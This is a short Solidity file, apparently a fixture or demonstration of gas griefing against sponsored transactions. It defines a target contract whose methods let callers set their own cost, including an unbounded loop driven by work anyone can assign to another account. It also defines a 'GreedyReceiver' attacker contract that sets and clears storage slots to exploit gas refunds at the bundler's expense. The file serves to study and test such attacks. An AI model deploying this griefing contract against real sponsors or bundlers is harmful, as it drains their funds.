// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface Receiver {
    function collected(uint256 slots) external;
}

/** A sponsored contract with methods that let a caller decide what they cost. */
contract SponsoredTarget {
    mapping(address caller => uint256 slots) private pending;
    bytes32 private newest;

    event Noted(bytes32 digest);

    /** Calls a contract that the caller names, as `safeMint` does. */
    function collect(address receiver, uint256 slots) external {
        Receiver(receiver).collected(slots);
    }

    /** Takes bytes of any length. */
    function note(bytes calldata data) external {
        emit Noted(keccak256(data));
    }

    /** Anyone can leave work for an account. */
    function leaveWork(address account, uint256 slots) external {
        pending[account] = slots;
    }

    /** Does the work that was left for the caller. */
    function settle() external {
        uint256 slots = pending[msg.sender];
        for (uint256 i = 0; i < slots; i++) newest = keccak256(abi.encode(newest, i));
    }
}

/** The attacker's: sets and clears storage, for which the chain returns gas to the bundler. */
contract GreedyReceiver {
    function collected(uint256 slots) external {
        assembly {
            for { let slot := 1 } lt(slot, add(slots, 1)) { slot := add(slot, 1) } { sstore(slot, 1) }
            for { let slot := 1 } lt(slot, add(slots, 1)) { slot := add(slot, 1) } { sstore(slot, 0) }
        }
    }
}
